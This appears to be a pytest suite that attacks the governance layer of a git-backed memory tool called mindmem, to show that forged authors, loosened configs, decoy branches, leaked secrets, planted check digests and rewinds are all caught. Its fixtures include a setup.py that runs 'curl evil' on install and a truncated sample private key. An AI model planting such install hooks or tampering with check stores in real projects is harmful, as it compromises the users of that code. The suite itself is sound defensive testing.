"""The governance chain tried as an attacker would: one test per way around it (issue: governance you can trust).

Each attacker can edit the work tree, push a branch or run an agent. Real repos, real ssh keys,
the real git binary; every refusal leaves refs, index and work tree as they were.
"""

from __future__ import annotations

import json
import marshal
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import approve, enforced_repo, fsck, git, new_block, propose, refused, rev, ssh_key, state
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mindmem.agents.dispatch import AccessDenied, Dispatcher
from mindmem.checks import sources
from mindmem.checks.catalog import Digest

GRANT = '\n[agents.bot]\nphases = ["propose", "approve"]\n'


@pytest.fixture
def team(tmp_path: Path, mm) -> Path:
    """Enforce mode, the user's ssh key the one approver, one approved block."""
    repo = enforced_repo(tmp_path / "team", mm, ssh_key(tmp_path / "keys", "alice"))
    new_block(mm, repo, "note", "-t", "Deploys go through staging")
    approve(mm, repo, propose(mm, repo, "-r", "how we deploy today"))
    return repo


def verify(mm, repo: Path, *args: str) -> tuple[int, dict]:
    result = mm("verify", "--json", *args, cwd=repo)
    return result.code, json.loads(result.out)


def commit_all(repo: Path, message: str) -> str:
    """A direct commit with plain git: what anyone with write access to the work tree can do."""
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "--no-verify", "-m", message)
    return rev(repo, "HEAD") or ""


def hand_made_proposal(repo: Path, pid: str, files: dict[str, str], message: str, author: str = "Alice") -> str:
    """A proposals/P-… branch made with plain git (as pushed from anywhere), back on main afterwards."""
    git(repo, "checkout", "-q", "-b", f"proposals/{pid}")
    for rel, text in files.items():
        (repo / rel).parent.mkdir(parents=True, exist_ok=True)
        (repo / rel).write_text(text)
    git(repo, "add", "-A")
    git(repo, "-c", f"user.name={author}", "commit", "-q", "--no-verify", "-m", message)
    sha = rev(repo, "HEAD") or ""
    git(repo, "checkout", "-q", "main")
    return sha


def block_text(block_id: str, title: str, author: str = "alice") -> str:
    return (
        f"---\nid: {block_id}\ntype: note\ntitle: {title}\nstatus: active\n"
        f"created: 2026-12-01T10:00:00Z\nauthor: {author}\n---\n{title}.\n"
    )


# -- 1. settings that decide come from the governed branch as committed ------------------------


def test_an_uncommitted_grant_does_not_let_an_agent_approve(team: Path, mm):
    pid = propose(mm, team, "-r", "agent wants this in", "--add", "note", "--set", "title=Bot was here")
    with (team / ".mindmem/config.toml").open("a") as handle:
        handle.write(GRANT)
    before = state(team)
    with pytest.raises(AccessDenied, match="may not approve"):
        Dispatcher(str(team), "bot").staged_change("approve", "looks fine to me", proposal=pid)
    assert state(team) == before


def test_a_committed_grant_is_recorded_in_the_approval_and_shown_by_verify(team: Path, mm):
    with (team / ".mindmem/config.toml").open("a") as handle:
        handle.write(GRANT)
    approve(mm, team, propose(mm, team, "-r", "the release bot may approve notes"))
    pid = propose(mm, team, "-r", "release notes for 1.2", "--add", "note", "--set", "title=Release 1.2")
    done = Dispatcher(str(team), "bot").staged_change("approve", "release checklist passed", proposal=pid)
    trailers = git(team, "log", "-1", "--format=%(trailers:only,unfold)", done["commit"])
    assert "Mm-Approved-Via: agent:bot" in trailers
    code, report = verify(mm, team)
    assert code == 0 and any("approved by agent:bot through an agent grant" in n for n in report["notes"])
    events = json.loads(mm("audit", "--json", cwd=team).out)
    assert next(e for e in events if e["kind"] == "approved")["via"] == "agent:bot"


def test_a_work_tree_edit_of_the_mode_changes_nothing(team: Path, mm):
    config = team / ".mindmem/config.toml"
    config.write_text(config.read_text().replace('mode = "enforce"', 'mode = "detect_only"'))
    (team / "memory/notes/N-20261201-aaaaaa.md").write_text(block_text("N-20261201-aaaaaa", "Sneaked in"))
    git(team, "add", "memory")
    git(team, "commit", "-q", "--no-verify", "-m", "direct write")
    code, report = verify(mm, team)
    assert code == 1 and "without an approval" in report["offenders"][0]["reason"]


def test_an_environment_override_may_only_tighten(team: Path, mm, monkeypatch):
    monkeypatch.setenv("MM_MODE", "detect_only")
    refused(mm, team, ["verify"], 2, "environment overrides may only make governance stricter")


# -- 2. verify derives its rules from history, not from the config it checks ---------------------


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (None, 'governed_since = "HEAD"\n'),
        ('mode = "enforce"', 'mode = "detect_only"'),
    ],
)
def test_an_unapproved_commit_that_loosens_the_rules_is_judged_by_them(team: Path, mm, old, new):
    config = team / ".mindmem/config.toml"
    text = config.read_text()
    config.write_text(text + new if old is None else text.replace(old, new))
    (team / "memory/notes/N-20261201-bbbbbb.md").write_text(block_text("N-20261201-bbbbbb", "Unreviewed"))
    sneaky = commit_all(team, "tidy settings")
    code, report = verify(mm, team)
    assert code == 1
    assert [o["sha"] for o in report["offenders"]] == [sneaky]
    assert "changes governance (.mindmem/) without an approval" in report["offenders"][0]["reason"]


def test_switching_the_governed_branch_to_a_decoy_is_an_offence(team: Path, mm):
    git(team, "branch", "decoy")
    config = team / ".mindmem/config.toml"
    config.write_text(config.read_text().replace('governed_branch = "main"', 'governed_branch = "decoy"'))
    sneaky = commit_all(team, "use the decoy")
    git(team, "checkout", "-q", "decoy")
    config.write_text(config.read_text().replace('governed_branch = "main"', 'governed_branch = "decoy"'))
    (team / "memory/notes/N-20261201-cccccc.md").write_text(block_text("N-20261201-cccccc", "Decoy fact"))
    commit_all(team, "decoy agrees")
    git(team, "checkout", "-q", "main")
    code, report = verify(mm, team)
    assert code == 1
    assert any(o["sha"] == sneaky for o in report["offenders"]), report


def test_deleting_and_re_adding_the_config_never_restarts_governance(team: Path, mm):
    genesis = verify(mm, team)[1]["genesis"]
    saved = (team / ".mindmem/config.toml").read_text()
    (team / ".mindmem/config.toml").unlink()
    removed = commit_all(team, "drop the config")
    (team / ".mindmem/config.toml").write_text(saved)
    (team / "memory/notes/N-20261201-dddddd.md").write_text(block_text("N-20261201-dddddd", "After restart"))
    readded = commit_all(team, "start again")
    code, report = verify(mm, team)
    assert code == 1 and report["genesis"] == genesis
    assert {o["sha"] for o in report["offenders"]} >= {removed, readded}


# -- 3. a proposal may change only memory, and review shows everything --------------------------


def test_a_new_approver_is_shown_field_by_field_first_in_review(team: Path, tmp_path: Path, mm):
    mallory = ssh_key(tmp_path / "keys", "mallory")
    pub = (mallory.with_suffix(".pub")).read_text().split()
    with (team / ".mindmem/allowed_signers").open("a") as handle:
        handle.write(f'mallory@example.com namespaces="git" {pub[0]} {pub[1]}\n')
    pid = propose(mm, team, "-r", "mallory joins the approvers")
    text = mm("review", pid, cwd=team).out
    lines = text.splitlines()
    assert lines[1] == "governance changes (who may do what):"
    assert lines[2].startswith("  approver added: mallory@example.com (ssh-ed25519 SHA256:")
    shown = json.loads(mm("diff", pid, "--json", cwd=team).out)
    assert shown["paths"] == [".mindmem/allowed_signers"]
    assert shown["governance"][0]["kind"] == "approver-added"


def test_a_hand_made_proposal_with_files_outside_memory_is_refused(team: Path, mm):
    pid = "P-20261201-e0e0e0"
    hand_made_proposal(
        team,
        pid,
        {
            "memory/notes/N-20261201-eeeeee.md": block_text("N-20261201-eeeeee", "Harmless note"),
            ".github/workflows/evil.yml": "on: push\njobs: {}\n",
            "setup.py": "import os; os.system('curl evil')\n",
        },
        "Add a note",
    )
    shown = json.loads(mm("diff", pid, "--json", cwd=team).out)
    assert set(shown["paths"]) >= {".github/workflows/evil.yml", "setup.py"}
    review = json.loads(mm("review", pid, "--format", "json", cwd=team).out)
    assert {f["path"] for f in review["findings"] if f["code"] == "MM-P001"} == {
        ".github/workflows/evil.yml",
        "setup.py",
    }
    refused(mm, team, ["approve", pid], 1, "changes files outside memory")
    assert not (team / "setup.py").exists()


# -- 4. proposals of any number of commits ----------------------------------------------------


def test_a_second_commit_on_a_proposal_is_reviewed_approved_and_kept_by_rebase(team: Path, mm):
    first = new_block(mm, team, "note", "-t", "First thought")
    pid = propose(mm, team, "-r", "two related notes")
    git(team, "checkout", "-q", f"proposals/{pid}")
    second = "N-20261201-f0f0f0"
    (team / f"memory/notes/{second}.md").write_text(block_text(second, "Second thought", "test"))
    commit_all(team, "and a second note, as review asked")
    git(team, "checkout", "-q", "main")
    assert set(json.loads(mm("diff", pid, "--json", cwd=team).out)["blocks"]) == {first, second}
    # main moves on elsewhere; rebase must keep both commits' content.
    new_block(mm, team, "note", "-t", "Unrelated")
    approve(mm, team, propose(mm, team, "-r", "unrelated note lands first"))
    assert mm("rebase", pid, cwd=team).code == 0
    approve(mm, team, pid, "-r", "both notes are right")
    for block_id in (first, second):
        assert git(team, "cat-file", "-e", f"main:memory/notes/{block_id}.md", check=False) == ""
    assert verify(mm, team)[0] == 0
    fsck(team)


def test_amend_adds_a_revision_to_an_open_proposal(team: Path, mm):
    pid = propose(mm, team, "-r", "release checklist", "--add", "note", "--set", "title=Release checklist")
    again = propose(
        mm,
        team,
        "-r",
        "reviewer wants rollback steps",
        "--amend",
        pid,
        "--add",
        "note",
        "--set",
        "title=Rollback steps",
    )
    assert again == pid
    listed = json.loads(mm("diff", pid, "--json", cwd=team).out)
    assert len(listed["commits"]) == 2 and len(listed["blocks"]) == 2
    approve(mm, team, pid)
    assert len(json.loads(mm("list", "--json", "--at", "main", cwd=team).out)) == 3


# -- 5. approve never writes what verify would reject ---------------------------------------------


def test_propose_mode_without_a_key_approves_memory_and_verify_accepts_it(repo: Path, mm):
    new_block(mm, repo, "note", "-t", "Unsigned but fine")
    result = mm("approve", propose(mm, repo, "-r", "propose mode allows unsigned"), cwd=repo)
    assert result.code == 0 and "(unsigned)" in result.out
    code, report = verify(mm, repo)
    assert code == 0 and "unsigned" in report["warnings"][0]["reason"]


def test_propose_mode_without_a_key_refuses_a_governance_change_once_approvers_exist(repo: Path, tmp_path: Path, mm):
    # With nobody listed, propose mode has no one to ask: the first approver is approved unsigned.
    pub = ssh_key(tmp_path / "keys", "carol").with_suffix(".pub").read_text().split()
    with (repo / ".mindmem/allowed_signers").open("a") as handle:
        handle.write(f'carol@example.com namespaces="git" {pub[0]} {pub[1]}\n')
    approve(mm, repo, propose(mm, repo, "-r", "carol approves from now on"))
    assert verify(mm, repo)[0] == 0
    config = repo / ".mindmem/config.toml"
    config.write_text(config.read_text().replace('mode = "propose"', 'mode = "detect_only"'))
    pid = propose(mm, repo, "-r", "relax the rules a little")
    refused(
        mm, repo, ["approve", pid], 3, "no signing key is set up; nothing was written. To fix it, set up ssh signing"
    )
    assert verify(mm, repo)[0] == 0


def test_enforce_mode_refuses_a_key_that_is_not_an_approver(team: Path, tmp_path: Path, mm):
    pid = propose(mm, team, "-r", "another note", "--add", "note", "--set", "title=Another")
    git(team, "config", "user.signingkey", str(ssh_key(tmp_path / "keys", "eve")))
    refused(mm, team, ["approve", pid], 3, "is not an approver")


# -- 6. authorship is checked -------------------------------------------------------------------


def test_a_forged_mm_author_is_a_finding_and_not_recorded(team: Path, mm):
    pid = "P-20261201-a1a1a1"
    hand_made_proposal(
        team,
        pid,
        {"memory/notes/N-20261201-a1a1a1.md": block_text("N-20261201-a1a1a1", "Trust me")},
        f"Add a note\n\nMm-Proposal: {pid}\nMm-Author: Bob Trusted\n",
        author="Alice",
    )
    review = json.loads(mm("review", pid, "--format", "json", cwd=team).out)
    assert any(f["code"] == "MM-P002" and "Bob Trusted" in f["message"] for f in review["findings"])
    sha = approve(mm, team, pid)
    trailers = git(team, "log", "-1", "--format=%(trailers:only,unfold)", sha)
    assert "Mm-Author: Alice" in trailers and "Bob Trusted" not in trailers


# -- 7. secrets never travel ------------------------------------------------------------------------

SECRET = (
    "-----BEGIN OPENSSH PRIVATE KEY-----\n"
    "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\n"
    "-----END OPENSSH PRIVATE KEY-----"
)


def test_a_secret_stops_propose_before_anything_is_committed(team: Path, mm):
    new_block(mm, team, "note", "-t", "Deploy key", "-b", SECRET)
    refused(mm, team, ["propose", "-r", "the deploy key for the build box"], 1, "private key")
    assert git(team, "branch", "--list", "proposals/*") == ""


def test_sync_never_pushes_a_proposal_that_holds_a_secret(team: Path, tmp_path: Path, mm):
    remote = tmp_path / "remote.git"
    git(tmp_path, "init", "-q", "--bare", str(remote))
    git(team, "remote", "add", "origin", str(remote))
    pid = "P-20261201-5e5e5e"
    hand_made_proposal(
        team, pid, {"memory/notes/N-20261201-5e5e5e.md": block_text("N-20261201-5e5e5e", "Key") + SECRET}, "Add key"
    )
    result = mm("sync", "--json", cwd=team)
    assert result.code == 0, result.err
    report = json.loads(result.out)
    assert f"proposals/{pid}" not in report["pushed"]
    assert any(k["branch"] == f"proposals/{pid}" and "private key" in k["reason"] for k in report["kept"])
    assert git(remote, "branch", "--list", "proposals/*") == ""


def test_a_planted_digest_does_not_wave_a_secret_through_approve(team: Path, mm, monkeypatch):
    """The checks keep what they learnt of a text in stores in the git dir, which whoever writes the work
    tree can write too; approve scans the bytes it merges itself."""
    monkeypatch.setattr(sources, "MANY_CHANGES", 2)  # the path large proposals take: stored digests
    pid = "P-20261201-5e5e60"
    files = {f"memory/notes/N-20261201-00000{n}.md": block_text(f"N-20261201-00000{n}", f"Note {n}") for n in range(4)}
    secret = "memory/notes/N-20261201-000009.md"
    files[secret] = block_text("N-20261201-000009", "Key") + SECRET
    hand_made_proposal(team, pid, files, "Add notes")
    assert mm("check", "--proposal", pid, cwd=team).code == 1  # seen, and its digest stored
    store = team / ".git/mindmem/checks/digests"
    fmt, entries = marshal.loads(store.read_bytes())
    blob = git(team, "rev-parse", f"proposals/{pid}:{secret}").strip()
    planted = list(entries[blob])
    planted[Digest._fields.index("hazards")] = ()
    entries[blob] = tuple(planted)
    store.write_bytes(marshal.dumps((fmt, entries)))
    assert mm("check", "--proposal", pid, cwd=team).code == 0  # the planted entry fools the checks
    refused(mm, team, ["approve", pid], 1, "private key")  # but not the gate


# -- 8. races -------------------------------------------------------------------------------------


def test_a_proposal_that_changes_nothing_is_refused(team: Path, mm):
    block_id = new_block(mm, team, "note", "-t", "Twice")
    text = (team / f"memory/notes/{block_id}.md").read_text()
    first = propose(mm, team, "-r", "first copy of it")
    (team / f"memory/notes/{block_id}.md").write_text(text)
    second = propose(mm, team, "-r", "second copy of it")
    approve(mm, team, first)
    # The same file on both sides: rebase cannot replay it into anything new.
    refused(mm, team, ["rebase", second], 3, "changes nothing on the new head")


RACER = """
import sys, time
from pathlib import Path
from mindmem import Memory
from mindmem import governance as gov
from mindmem.errors import MindmemError

repo, go = sys.argv[1], Path(sys.argv[2])
while not go.exists():
    time.sleep(0.001)
try:
    print(gov.propose_worktree(Memory(repo), rationale="racing for the same file").id)
except MindmemError as exc:
    print(f"refused: {exc}")
"""


def test_two_work_tree_proposes_of_one_new_file_one_wins_the_other_says_so(team: Path, mm, tmp_path: Path):
    block_id = new_block(mm, team, "note", "-t", "Raced for")
    go = tmp_path / "go"
    procs = [
        subprocess.Popen([sys.executable, "-c", RACER, str(team), str(go)], stdout=subprocess.PIPE, text=True)
        for _ in range(2)
    ]
    go.touch()
    outs = sorted(p.communicate(timeout=120)[0].strip() for p in procs)
    assert outs[0].startswith("P-") and outs[1].startswith("refused: no uncommitted changes"), outs
    assert [p["blocks"] for p in json.loads(mm("proposals", "--json", cwd=team).out)] == [[block_id]]


STRESS = """
import sys, time
from pathlib import Path
from mindmem import Memory
from mindmem import governance as gov
from mindmem.errors import MindmemError, RefConflict

repo, me, rounds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
for n in range(rounds):
    memory = Memory(repo)
    block = memory.new("note", title=f"Worker {me} round {n}")
    print("created", block.id, flush=True)
    try:
        pid = gov.propose_worktree(memory, rationale=f"worker {me} round {n}").id
    except MindmemError as exc:  # another worker's propose carried this file: fine, it is not lost
        print("propose-refused", type(exc).__name__, flush=True)
        continue
    for _ in range(50):
        try:
            gov.approve(Memory(repo), pid)
            print("approved", pid, flush=True)
            break
        except RefConflict:
            time.sleep(0.01 * (me + 1))
        except MindmemError as exc:
            if "rebase" in str(exc):
                gov.rebase(Memory(repo), pid)
                continue
            print("approve-failed", pid, exc, flush=True)
            break
"""


def test_many_processes_on_one_work_tree_lose_nothing_and_leave_nothing_stuck(repo: Path, mm):
    workers, rounds = 16, 30
    procs = [
        subprocess.Popen(
            [sys.executable, "-c", STRESS, str(repo), str(n), str(rounds)],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for n in range(workers)
    ]
    outs = [p.communicate(timeout=900) for p in procs]
    for proc, (_, err) in zip(procs, outs, strict=True):
        assert proc.returncode == 0 and "Traceback" not in err, err[-2000:]
    created = {line.split()[1] for out, _ in outs for line in out.splitlines() if line.startswith("created")}
    assert len(created) == workers * rounds
    on_main = {Path(p).stem for p in git(repo, "ls-tree", "-r", "--name-only", "main", "memory").split()}
    open_ = json.loads(mm("proposals", "--json", cwd=repo).out)
    pending = {b for p in open_ for b in p["blocks"]}
    in_work_tree = {p.stem for p in (repo / "memory/notes").glob("N-*.md")}
    assert not any(name.startswith(".N-") for name in on_main), "a half-written temporary file was proposed"
    assert created <= on_main | pending | in_work_tree, sorted(created - on_main - pending - in_work_tree)
    for p in open_:  # nothing stuck: every open proposal can be rebased and approved
        if p["merge"] == "needs rebase":
            assert mm("rebase", p["id"], cwd=repo).code == 0
        assert mm("approve", p["id"], cwd=repo).code == 0
    assert verify(mm, repo)[0] == 0
    fsck(repo)


# -- 9. rewinds are noticed ------------------------------------------------------------------------


def test_rewinding_the_governed_branch_is_noticed(team: Path, mm):
    assert verify(mm, team)[0] == 0  # remembered
    approve(mm, team, propose(mm, team, "-r", "one more note", "--add", "note", "--set", "title=One more"))
    assert verify(mm, team)[0] == 0
    tip = rev(team, "main") or ""
    git(team, "update-ref", "refs/heads/main", f"{tip}^1")
    git(team, "reset", "-q", "--hard", "main")
    code, report = verify(mm, team)
    assert code == 1 and any("moved backwards or sideways" in o["reason"] for o in report["offenders"])


def test_expect_catches_a_rewind_on_a_fresh_clone(team: Path, tmp_path: Path, mm):
    tip = rev(team, "main") or ""
    git(team, "update-ref", "refs/heads/main", f"{tip}^1")
    clone = tmp_path / "ci"
    git(tmp_path, "clone", "-q", str(team), str(clone))
    code, report = verify(mm, clone, "--expect", tip)
    assert code == 1 and "does not contain" in report["offenders"][0]["reason"]


# -- the invariant behind 4 and 8, by property ---------------------------------------------------

STEPS = st.lists(
    st.sampled_from(["propose", "commit-on-branch", "main-moves", "rebase", "approve"]), min_size=3, max_size=9
)


@settings(max_examples=12, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(steps=STEPS)
def test_every_block_of_an_approved_proposal_head_lands_or_the_command_said_why(steps, tmp_path_factory):
    """After any sequence of propose, commit-on-branch, rebase and approve, each approval put every block
    of the proposal's head on the governed branch; every other outcome was a clear refusal."""
    from mindmem import Memory
    from mindmem import governance as gov
    from mindmem.errors import MindmemError
    from mindmem.store.changes import InlineEdit

    path = tmp_path_factory.mktemp("prop")
    Memory.init(path, commit=True)
    memory = Memory(path)
    pid: str | None = None
    shared = f"memory/notes/{'N-20261201-0a0a0a'}.md"
    for n, step in enumerate(steps):
        memory = Memory(path)
        try:
            if step == "propose" or pid is None:
                request = InlineEdit(add="note", fields={"title": f"Step {n}"})
                pid = gov.propose(memory, gov.inline_changes(memory, request), rationale=f"step {n} adds a note").id
            elif step == "commit-on-branch":
                branch = f"proposals/{pid}"
                head = memory.git.branch_tip(branch)
                memory.git.commit_files(
                    branch,
                    {shared: block_text("N-20261201-0a0a0a", f"Shared {n}").encode()},
                    f"commit {n} on the branch\n",
                    memory.person(),
                    expected_tip=head,
                )
            elif step == "main-moves":
                memory.git.commit_files(
                    "main",
                    {shared: block_text("N-20261201-0a0a0a", f"Main {n}").encode()},
                    f"Approve main move {n}\n\nMm-Decision: approved\n",
                    memory.person(),
                )
            elif step == "rebase":
                gov.rebase(memory, pid)
            else:
                head = gov.open_proposal(memory, pid)
                wanted = {p: new for p, (_, new) in gov.proposal_changes(memory, head).items()}
                done = gov.approve(memory, pid)
                for rel, data in wanted.items():
                    assert memory.git.read_file(done.commit, rel) == data, rel
                pid = None
        except MindmemError as exc:
            assert str(exc), "a refusal must say why"
    fsck(path)
